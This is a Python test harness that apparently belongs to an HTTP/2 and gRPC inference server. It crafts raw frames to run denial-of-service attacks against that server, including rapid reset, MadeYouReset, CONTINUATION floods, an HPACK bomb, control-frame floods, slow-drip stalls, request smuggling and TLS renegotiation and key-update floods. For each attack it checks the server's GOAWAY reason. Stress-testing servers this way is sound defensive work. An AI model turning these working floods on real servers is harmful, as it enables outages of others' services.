#!/usr/bin/env python3
"""Hostile HTTP clients with raw sockets: frames made by hand, built before the attack, sent in bulk.

    tests/attack/attacks.py NAME HOST:PORT [--target models|application] [--seconds 30] [--connections 4] [--model echo]
                            [--tls] [--link PATH --token TOKEN]
    tests/attack/attacks.py --list

An attacker whose connection is closed comes back at once. Prints one line of JSON: connections made, how many
the server closed and why (GOAWAY), the longest and the median time from the first hostile byte to the close.
"""

import argparse
import collections
import dataclasses
import errno
import json
import selectors
import socket
import ssl
import statistics
import sys
import time

import hostile_tls
import smuggling

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/inference.GRPCInferenceService/ModelInfer"
AGAIN_LATER = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
BLOCK = 65536  # bytes of one read or write
ESTABLISHED, SYN_SENT = 1, 2  # states of a socket in TCP_INFO
HASTY = ("--tls-handshake-timeout", "2s")
STREAMS = 5000  # of one connection, for attacks that need a new one each time


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value, index=False):
    """A header field by its text; `index`: into the compression table."""
    return bytes([0x40 if index else 0, len(name)]) + name + integer(len(value), 7) + value


def integer(n, bits):
    most = (1 << bits) - 1
    if n < most:
        return bytes([n])
    out, n = bytearray([most]), n - most
    while n >= 128:
        out.append(n & 127 | 128)
        n >>= 7
    return bytes(out) + bytes([n])


def first_block(path, content_type):
    """POST, http and four fields that go into the table; from the second request on AGAIN says the same."""
    return (b"\x83\x86\x44" + integer(len(path), 7) + path + b"\x41\x09localhost\x5f" + integer(len(content_type), 7)
            + content_type + literal(b"te", b"trailers", index=True))


AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"


def message(model, n=16):
    """A ModelInfer request in its gRPC frame: one FP32 tensor of n elements."""
    def field(number, value):
        return bytes([number << 3 | 2]) + integer_varint(len(value)) + value

    tensor = field(1, b"x") + field(2, b"FP32") + field(3, integer_varint(n))
    body = field(1, model.encode()) + field(5, tensor) + field(7, bytes(4 * n))
    return b"\0" + len(body).to_bytes(4, "big") + body


def integer_varint(n):
    out = bytearray()
    while n >= 128:
        out.append(n & 127 | 128)
        n >>= 7
    return bytes(out) + bytes([n])


@dataclasses.dataclass
class Attack:
    reason: str          # that the server must give for closing; "": it need not close
    once: bytes = b""    # sent first
    again: bytes = b""   # sent for ever after it
    settings: bytes = b""
    reads: bool = True   # takes what the server sends
    receives: int = 0    # bytes of its socket's receive buffer; 0: the system's default
    greets: bool = True
    drip: float = 0      # seconds between single bytes of `again`
    every: float = 0     # seconds from one `again` to the next
    life: float = 0      # seconds until the client leaves, to come back at once
    slow: bool = False   # ended by a timer
    stalled: str = ""    # the part of a request that the server gives up, without closing
    worker: str = ""     # no client, but a worker: which of workers.py
    tls: str = ""        # only against a port of TLS: "none": the client speaks none; a name of hostile_tls.RECORDS; "handshakes"
    clients: int = 0     # at a time, instead of --connections
    rows: tuple = ()     # what is sent first, by turns, instead of `once`
    app: str = "echo.py"
    options: tuple = ()  # of the server
    peak: float = 0      # MiB that its memory may grow by meanwhile
    doc: str = ""


def per_stream(make):
    return b"".join(make(i, 2 * i + 1) for i in range(STREAMS))


class Models:
    """What is attacked: a model by gRPC."""

    name, app, deployment = "models", None, None  # the attack's own

    def __init__(self, model="echo"):
        self.model, self.first = model, first_block(PATH, b"application/grpc")

    def block(self, i):
        return AGAIN if i else self.first

    def body(self, n=16):
        return message(self.model, n)

    def begin(self, i, stream, announced, sent):
        """A request that announces so many bytes of its body, and the first ones of them."""
        prefix = b"\0" + announced.to_bytes(4, "big")
        return frame(HEADERS, END_HEADERS, stream, self.block(i)) + frame(DATA, 0, stream, prefix + bytes(sent))

    def request(self, i, stream, body, end=END_STREAM):
        return frame(HEADERS, END_HEADERS, stream, self.block(i)) + frame(DATA, end, stream, body)

    def large(self):
        """Whose requests have large answers."""
        return Models("mebibyte")


class Application(Models):
    """What is attacked: an application that gives bodies back (application.py)."""

    name, app, deployment = "application", "application.py:app", "Echo"

    def __init__(self, path=b"/echo"):
        self.first = first_block(path, b"text/plain")

    def body(self, n=16):
        return bytes(4 * n + 40)

    def begin(self, i, stream, announced, sent):
        length = literal(b"content-length", b"%d" % announced)
        return frame(HEADERS, END_HEADERS, stream, self.block(i) + length) + frame(DATA, 0, stream, bytes(sent))

    def large(self):
        return Application(b"/large")


TARGETS = {kind.name: kind for kind in (Models, Application)}


def attacks(target=None):
    """Name → Attack on this target."""
    target = target or Models()
    body, block, request, FIRST = target.body(), target.block, target.request, target.first
    large = target.large()
    big = 4000 - 32 - 1
    bomb = FIRST + b"\x40\x01x" + integer(big, 7) + b"v" * big + b"\xbe" * 12000

    def announced(i):
        """Of a body: large ones, then such as fill what they leave."""
        return 15 << 20 if i < 150 else 65536 if i < 250 else 1000 if i < 350 else 110

    def open_(i, s):
        return frame(HEADERS, END_HEADERS, s, block(i))

    return {
        "rapid_reset": Attack(
            "rapid_reset", per_stream(lambda i, s: request(i, s, body) + frame(RST, 0, s, b"\0\0\0\x08")),
            doc="whole requests, each taken back at once (CVE-2023-44487)"),
        "rapid_reset_open": Attack(
            "rapid_reset", per_stream(lambda i, s: open_(i, s) + frame(RST, 0, s, b"\0\0\0\x08")),
            doc="the same without bodies"),
        "made_you_reset_window": Attack(
            "stream_faults", per_stream(lambda i, s: request(i, s, body)
                                        + frame(WINDOW, 0, s, b"\x7f\xff\xff\xff")),
            doc="whole requests, then a window that overflows: the server resets (CVE-2025-8671)"),
        "made_you_reset_length": Attack(
            "stream_faults", per_stream(lambda i, s: frame(HEADERS, END_HEADERS, s, block(i)
                                                           + literal(b"content-length", b"3"))
                                        + frame(DATA, 0, s, body)),
            doc="bodies that belie their content-length"),
        "made_you_reset_zero": Attack(
            "protocol_error", per_stream(lambda i, s: request(i, s, body) + frame(WINDOW, 0, s, b"\0\0\0\0")),
            doc="window updates of zero: an error of the connection for nghttp2"),
        "made_you_reset_closed": Attack(
            "protocol_error", per_stream(lambda i, s: request(i, s, body) + frame(DATA, 0, s, b"x")),
            doc="DATA after the end of the stream: an error of the connection for nghttp2"),
        "made_you_reset_priority": Attack(
            "protocol_error", per_stream(lambda i, s: request(i, s, body) + frame(PRIORITY, 0, s, b"xxx")),
            doc="PRIORITY of a wrong length: an error of the connection for nghttp2"),
        "malformed_headers": Attack(
            "stream_faults", per_stream(lambda i, s: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x83\x86")),
            doc="requests without a path"),
        "continuation": Attack(
            "continuation_flood", frame(HEADERS, 0, 1, FIRST),
            frame(CONTINUATION, 0, 1, literal(b"x", b"y")) * 1000, doc="a header block that never ends"),
        "continuation_large": Attack(
            "header_flood", frame(HEADERS, 0, 1, FIRST),
            frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 16000)) * 20, doc="the same, 16 KiB a piece"),
        "continuation_empty": Attack(
            "continuation_flood", frame(HEADERS, 0, 1, b""), frame(CONTINUATION, 0, 1) * 5000,
            doc="the same, empty pieces"),
        "ping": Attack("too_many_pings", again=frame(PING, 0, 0, b"12345678") * 3000),
        "ping_unread": Attack("too_many_pings", again=frame(PING, 0, 0, b"12345678") * 3000, reads=False),
        "ping_answers": Attack("control_flood", again=frame(PING, 1, 0, b"12345678") * 3000,
                               doc="acknowledgements of pings that nobody sent"),
        "settings": Attack("settings_flood", again=frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 3000),
        "settings_empty": Attack("settings_flood", again=frame(SETTINGS, 0, 0) * 5000),
        "priority": Attack("priority_flood", again=frame(PRIORITY, 0, 1, b"\0\0\0\3\5") * 3000),
        "unknown": Attack("control_flood", again=frame(0x77, 0, 0, b"what") * 3000),
        "empty_data": Attack("empty_frames", open_(0, 1), frame(DATA, 0, 1) * 5000),
        "padded_data": Attack("empty_frames", open_(0, 1), frame(DATA, 8, 1, b"\x01\0") * 5000),
        "window_update": Attack("window_updates", again=frame(WINDOW, 0, 0, b"\0\0\0\1") * 5000),
        "window_update_stream": Attack("window_updates", open_(0, 1), frame(WINDOW, 0, 1, b"\0\0\0\1") * 5000),
        "hpack_bomb": Attack("header_flood", frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb),
                             doc="12,000 references to one entry of 4,000 bytes: 48 MB from 16 KB"),
        "garbage": Attack("bad_request", b"GET / HTTP/1.1\r\n\r\n" * 1000, greets=False),
        "smuggling": Attack("bad_request", greets=False, options=smuggling.LIMITS,
                            rows=tuple(smuggling.to_application(data) if isinstance(target, Application) else data
                                       for data, status, _ in smuggling.HTTP1.values() if status == 400),
                            doc="HTTP/1.1 messages that two readers could read in two ways, each with a request behind it"),
        # slow ones: closed by timers, so give the server short ones
        "slow_greeting": Attack("header_timeout", again=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", greets=False,
                                drip=0.3, slow=True, doc="the preface, a byte at a time"),
        "slow_header": Attack("header_timeout", frame(HEADERS, END_HEADERS, 1, FIRST)[:30], FIRST[21:], drip=0.3,
                              slow=True, doc="a header block, a byte at a time"),
        "slow_body": Attack("", slow=True, stalled="request",
                            once=b"".join(target.begin(i, 2 * i + 1, 65536, 100) for i in range(500)),
                            doc="messages of 64 KiB that stop after 100 bytes"),
        "zero_window": Attack("", slow=True, stalled="answer",
                              once=b"".join(request(i, 2 * i + 1, body) for i in range(200)),
                              settings=b"\0\4\0\0\0\0", doc="200 requests whose answers may not be sent"),
        "never_reads": Attack("send_timeout", frame(WINDOW, 0, 0, b"\x7f\xff\0\0")
                              + b"".join(request(i, 2 * i + 1, target.body(16000)) for i in range(200)),
                              settings=b"\0\4\x7f\xff\xff\xff", reads=False, slow=True,
                              doc="200 requests of 64 KB, all windows open, answers never read"),
        "idle": Attack("", slow=True, doc="connections that only greet"),
        # what is held: --max-inflight-bytes, --max-answer-bytes
        "declared_length": Attack("", slow=True, stalled="request", every=0.5, peak=24,
                                  options=("--max-inflight-bytes", "64M"),
                                  once=b"".join(target.begin(i, 2 * i + 1, announced(i), 105)
                                                for i in range(400)),
                                  again=b"".join(frame(DATA, 0, 2 * i + 1, bytes(400)) for i in range(150)),
                                  doc="150 messages of 15 MiB, of which 800 bytes a second come; small ones for the rest"),
        "unread_answers": Attack("", slow=True, life=5, stalled="answer", peak=96, app="large_answers.py",
                                 options=("--max-answer-bytes", "64M", "--ping-interval", "1s"), settings=b"\0\4\0\0\0\0",
                                 once=b"".join(large.request(i, 2 * i + 1, large.body()) for i in range(100)),
                                 doc="100 answers of a MiB that may not be sent, again and again"),
        # workers
        "worker_pings": Attack("", worker="pings", peak=16, doc="a worker that pings and reads nothing"),
        "worker_talks": Attack("", worker="talks", slow=True, options=("--ping-interval", "1s", "--ping-timeout", "2s"),
                               doc="a worker that talks all the time, and does not answer pings"),
        # TLS itself
        "tls_silent": Attack("handshake_evicted", tls="none", greets=False, clients=2000, slow=True, options=HASTY,
                             doc="2,000 connections, more than --max-handshakes, that say nothing"),
        "tls_slow_hello": Attack("handshake_timeout", tls="none", greets=False, again=hostile_tls.hello(), drip=1, slow=True,
                                 clients=200, options=HASTY, doc="200 handshakes of a byte a second"),
        "tls_handshakes": Attack("", tls="handshakes", doc="full handshakes back to back, each connection of a process of its own"),
        "tls_clear_text": Attack("bad_request", b"GET / HTTP/1.1\r\n\r\n" * 1000, tls="none", greets=False,
                                 doc="HTTP in clear text: answered by a 400 that can be read"),
        "tls_garbage": Attack("handshake_failed", tls="none", greets=False,
                              rows=(b"\x16\3\1\0\5hello", b"\x16" + b"\xff" * 20000, b"\x17\3\3\x40\0" + bytes(16384), bytes(100)),
                              doc="records that are none, or that do not come first"),
        "tls_broken_record": Attack("", tls="broken", greets=False, doc="a session, then a record that nobody has encrypted"),
        "tls_key_updates": Attack("tls_flood", tls="key_updates", greets=False, reads=False,
                                  doc="TLS 1.3: new keys 5,000 times, each to be answered, answers never read"),
        "tls_key_updates_and_data": Attack("tls_flood", tls="key_updates_and_data", greets=False, reads=False, receives=2048,
                                           clients=1, slow=True, doc="the same, 32 in a row and then a byte of a body"),
        "tls_renegotiations": Attack("tls_flood", tls="renegotiations", greets=False, reads=False,
                                     doc="TLS 1.2: other handshakes in the session, 5,000 times, answers never read"),
        "tls_cut_answers": Attack("", tls="session", life=0.05, peak=96, app="large_answers.py", settings=b"\0\4\x7f\xff\xff\xff",
                                  once=frame(WINDOW, 0, 0, b"\x7f\xff\0\0")
                                  + b"".join(large.request(i, 2 * i + 1, large.body()) for i in range(8)),
                                  doc="eight answers of a MiB, and the end without close_notify while they come"),
    }


class Client:
    """One hostile connection; what is to be sent is a view on buffers that all of them share."""

    def __init__(self, attack, address, n, tls=False):
        self.attack = attack
        self.sock = socket.socket()
        self.sock.bind((f"127.0.1.{n % 250 + 1}", 0))  # ports of its own: healthy clients keep theirs
        if attack.receives:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.receives)
        self.parts = []
        if tls and attack.tls != "none":
            self.sock.connect(address)
            if attack.tls in hostile_tls.RECORDS:
                self.parts.append(hostile_tls.RECORDS[attack.tls](self.sock))
            else:
                self.sock = hostile_tls.wrap(self.sock, ["h2"] if attack.greets else [])
        self.sock.setblocking(False)
        if attack.greets:
            self.parts.append(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, attack.settings)
                              + frame(SETTINGS, 1, 0))
        self.parts += [attack.rows[n % len(attack.rows)] if attack.rows else attack.once]
        self.view = memoryview(b"")
        self.began = time.monotonic()
        self.next_byte = 0.0
        self.at = 0
        self.inbox = b""
        self.goaway = ""
        if not tls or attack.tls == "none":
            self.sock.connect_ex(address)

    def _next(self, now):
        """False: nothing to send now."""
        while not len(self.view):
            if self.parts:
                self.view = memoryview(self.parts.pop(0))
            elif not self.attack.again:
                return False
            elif not self.attack.drip and not self.attack.every:
                self.view = memoryview(self.attack.again)
            elif now < self.next_byte:
                return False
            elif self.attack.every:
                self.next_byte = now + self.attack.every
                self.view = memoryview(self.attack.again)
            else:
                self.next_byte = now + self.attack.drip
                self.view = memoryview(self.attack.again)[self.at % len(self.attack.again):][:1]
                self.at += 1
        return True

    def write(self, now):
        """False: the connection is over."""
        try:
            while self._next(now):
                self.view = self.view[self.sock.send(self.view[:BLOCK]):]
        except AGAIN_LATER:
            pass
        except OSError as e:
            return e.errno == errno.ENOTCONN
        return True

    def connected(self):
        """As the kernel sees it, for those who never read."""
        return self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] in (ESTABLISHED, SYN_SENT)

    def wants_write(self):
        waits = self.attack.drip or self.attack.every
        return bool(len(self.view) or self.parts or (self.attack.again and not waits))

    def read(self):
        """False: the connection is over."""
        try:
            data = self.sock.recv(BLOCK)
        except AGAIN_LATER:
            return True
        except OSError:
            return False
        self.inbox += data
        while len(self.inbox) >= 9 and len(self.inbox) >= (n := 9 + int.from_bytes(self.inbox[:3], "big")):
            if self.inbox[3] == GOAWAY:
                self.goaway = f"{int.from_bytes(self.inbox[13:17], 'big')}:{self.inbox[17:n].decode()}"
            elif self.inbox[3] == PING and not self.inbox[4]:
                self.parts.append(frame(PING, 1, 0, self.inbox[9:n]))  # it is alive, only unfriendly
            self.inbox = self.inbox[n:]
        return bool(data)


class Gang:
    """Several hostile clients at a time, each replaced when it is closed."""

    def __init__(self, attack, address, connections, tls=False):
        self.attack, self.address, self.most, self.tls = attack, address, attack.clients or connections, tls
        self.selector = selectors.DefaultSelector()
        self.made, self.times, self.goaways = 0, [], collections.Counter()
        self.clients = set()

    def _begin(self):
        client = Client(self.attack, self.address, self.made, self.tls)
        self.made += 1
        self.clients.add(client)
        self.selector.register(client.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, client)

    def _leave(self, client):
        self.clients.discard(client)
        self.selector.unregister(client.sock)
        client.sock.close()

    def _end(self, client, now):
        self._leave(client)
        self.times.append(now - client.began)
        self.goaways[client.goaway] += 1

    def _serve(self, client, events, now):
        alive = True
        if events & selectors.EVENT_WRITE:
            alive = client.write(now)
        if not self.attack.reads:
            alive = alive and client.connected()
        elif events & selectors.EVENT_READ:
            alive = client.read() and alive
        if not alive:
            if self.attack.reads:
                while client.read():  # the server's last word may still be there
                    if not client.inbox:
                        break
            self._end(client, now)
            return
        wants = (selectors.EVENT_READ if self.attack.reads else 0) | \
            (selectors.EVENT_WRITE if client.wants_write() or not self.attack.reads else 0)
        self.selector.modify(client.sock, wants, client)

    def run(self, seconds, until=lambda gang: False):
        end = time.monotonic() + seconds
        while (now := time.monotonic()) < end and not until(self):
            while len(self.clients) < self.most:
                self._begin()
            for key, events in self.selector.select(0.05):
                self._serve(key.data, events, time.monotonic())
            if self.attack.life:
                for client in [c for c in self.clients if now - c.began > self.attack.life]:
                    self._leave(client)
            if self.attack.drip or self.attack.every:
                for client in list(self.clients):
                    if not client.write(time.monotonic()):
                        self._end(client, time.monotonic())
            elif not self.attack.reads:
                time.sleep(0.001)
        open_ages = [time.monotonic() - c.began for c in self.clients]
        for client in self.clients:
            client.sock.close()
        return {"made": self.made, "closed": len(self.times), "goaways": dict(self.goaways),
                "slowest_close_s": round(max(self.times, default=0), 4),
                "median_close_s": round(statistics.median(self.times), 5) if self.times else 0,
                "oldest_open_s": round(max(open_ages, default=0), 3)}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("name", nargs="?")
    parser.add_argument("address", nargs="?")
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--target", choices=TARGETS, default="models")
    parser.add_argument("--model", default="echo", help="of the target models")
    parser.add_argument("--tls", action="store_true", help="the port speaks TLS")
    parser.add_argument("--link", help="of hostile workers: the server's socket for workers")
    parser.add_argument("--token", help="and the token that they join by")
    parser.add_argument("--list", action="store_true")
    options = parser.parse_args()
    known = attacks(Models(options.model) if options.target == "models" else Application())
    if options.list or options.name not in known or not options.address:
        for name, attack in known.items():
            print(f"{name:24} {attack.reason or '-':20} {attack.doc}")
        return 0 if options.list else 2
    if known[options.name].worker:
        import workers
        print(json.dumps(workers.run(known[options.name].worker, options.link, options.token, options.seconds)))
        return 0
    host, _, port = options.address.rpartition(":")
    if known[options.name].tls == "handshakes":
        print(json.dumps(hostile_tls.flood_of_handshakes((host, int(port)), options.seconds, options.connections)))
        return 0
    gang = Gang(known[options.name], (host, int(port)), options.connections, options.tls)
    print(json.dumps(gang.run(options.seconds)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
